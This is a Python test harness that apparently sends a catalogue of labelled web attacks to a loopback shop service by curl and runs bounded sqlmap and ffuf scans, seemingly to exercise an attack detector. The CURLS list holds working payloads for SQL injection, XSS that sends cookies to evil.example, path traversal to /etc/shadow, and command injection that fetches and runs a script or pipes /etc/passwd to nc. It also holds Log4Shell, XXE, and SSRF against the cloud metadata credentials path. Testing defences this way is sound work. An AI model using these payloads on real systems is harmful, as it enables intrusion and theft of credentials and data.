"""Attacks as they are tried every day, each sent by a real client. Everything goes to loopback and is bounded."""

import shutil
import subprocess
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
CURL_ADDRESS = "127.0.2.1"


@dataclass
class Curl:
    """One request by curl: the class it belongs to, the target, and curl's arguments."""

    wants: str
    target: str
    args: list[str] = field(default_factory=list)


def form(data):
    return ["--data", data]


def json_body(data):
    return ["-H", "Content-Type: application/json", "--data-binary", data]


def xml_body(data):
    return ["-H", "Content-Type: application/xml", "--data-binary", data]


CURLS = [
    Curl("sqli", "/item?id=0%20union%20select%20name,password%20from%20users"),
    Curl(
        "sqli",
        "/item?id=1%2f**%2fand%2f**%2f(select%20count(*)%20from%20sqlite_master)%3e0",
    ),
    Curl("sqli", "/login", form("user=admin'--+&password=x")),
    Curl("sqli", "/login", form("user=x&password='+or+'a'%3d'a")),
    Curl(
        "sqli",
        "/api/orders",
        json_body('{"user": {"name": "x\\u0027 or 1=1; drop table users--"}}'),
    ),
    Curl("sqli", "/item?id=1%2527%2520or%25201%253d1--%2520"),
    Curl(
        "sqli",
        "/api/cart",
        ["-F", "note=1' AND SLEEP(5)-- -", "-F", "photo=@/dev/null;filename=a.jpg"],
    ),
    Curl("sqli", "/", ["-H", "Cookie: sid=x' or 1=1-- "]),
    Curl(
        "xss",
        "/search?q=%3Cscript%3Efetch('//evil.example/'%2bdocument.cookie)%3C/script%3E",
    ),
    Curl("xss", "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    Curl("xss", "/search?q=javascript:alert(document.domain)"),
    Curl("xss", "/api/cart", form("note=<svg/onload=confirm`1`>")),
    Curl("ptrav", "/download?file=../../../../etc/passwd"),
    Curl("ptrav", "/download?file=..%252f..%252f..%252fetc%252fshadow"),
    Curl("ptrav", "/download?file=php://filter/convert.base64-encode/resource=index.php"),
    Curl("ptrav", "/static/css/img/icons/..%2f..%2f..%2f..%2fetc%2fpasswd"),
    Curl("rce", "/api/ping?host=127.0.0.1;cat%20/etc/passwd"),
    Curl("rce", "/api/ping?host=$(curl%20http://evil.example/x.sh|sh)"),
    Curl("rce", "/api/eval?code=system('id');"),
    Curl("rce", "/", ["-A", "${jndi:ldap://evil.example/a}"]),
    Curl("rce", "/", ["-A", "${${lower:j}ndi:${lower:l}dap://evil.example/b}"]),
    Curl("rce", "/cgi-bin/status", ["-A", "() { :;}; /bin/bash -c 'id'"]),
    Curl("rce", "/api/run?cmd=Y2F0IC9ldGMvcGFzc3dkIHwgbmMgZXZpbC5leGFtcGxlIDQ0NDQ="),
    Curl("ssti", "/search?q={{config.__class__.__init__.__globals__}}"),
    Curl("ssti", "/search?q=%24%7B7*7%7D%20%7B%7B7*7%7D%7D"),
    Curl(
        "xxe",
        "/api/import",
        xml_body('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    ),
    Curl(
        "ssrf",
        "/api/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    ),
    Curl("ssrf", "/api/fetch", json_body('{"url": "gopher://127.0.0.1:6379/_FLUSHALL"}')),
    Curl(
        "nosqli",
        "/api/login",
        json_body('{"user": "admin", "password": {"$ne": null}}'),
    ),
    Curl("nosqli", "/api/login?user=admin&password[$regex]=.*"),
    Curl("crlf", "/search?q=x%0d%0aSet-Cookie:%20sid=evil"),
    Curl("scanner", "/.git/config"),
    Curl("scanner", "/.env"),
    Curl("scanner", "/", ["-A", "Nikto/2.5.0"]),
]


def run_curls(port, progress):
    """Sends every request of CURLS."""
    for number, curl in enumerate(CURLS, 1):
        command = ["curl", "--silent", "--globoff", "--path-as-is", "--max-time", "10", "--output", "/dev/null",
                   "--interface", CURL_ADDRESS, "-H", "Host: shop.example", *curl.args,
                   f"http://127.0.0.1:{port}{curl.target}"]  # fmt: skip
        subprocess.run(command, check=True, timeout=15)
        progress(number)


def run_sqlmap(port, folder, seconds):
    """A bounded run of sqlmap against the item page."""
    command = ["sqlmap", "-u", f"http://127.0.0.1:{port}/item?id=1", "--batch", "--level=1", "--risk=1", "--technique=BU",
               "--dbms=sqlite", "--flush-session", "--disable-coloring", "--timeout=5", "--retries=0",
               f"--output-dir={folder / 'sqlmap'}", "--dump", "-T", "users"]  # fmt: skip
    return bounded(command, folder / "sqlmap.log", seconds)


def run_ffuf(port, folder, seconds):
    """ffuf probing for paths that should not be there."""
    command = ["ffuf", "-u", f"http://127.0.0.1:{port}/FUZZ", "-w", str(HERE / "paths.txt"), "-t", "4", "-p", "0.02",
               "-maxtime", str(seconds)]  # fmt: skip
    return bounded(command, folder / "ffuf.log", seconds)


def bounded(command, log, seconds):
    """Runs a tool for at most that long. Gives what became of it."""
    if shutil.which(command[0]) is None:
        return "not installed"
    with log.open("wb") as out:
        try:
            done = subprocess.run(
                command,
                stdin=subprocess.DEVNULL,
                stdout=out,
                stderr=out,
                timeout=seconds,
            )
        except subprocess.TimeoutExpired:
            return f"stopped after {seconds} s"
    return "done" if done.returncode == 0 else f"exit status {done.returncode}"
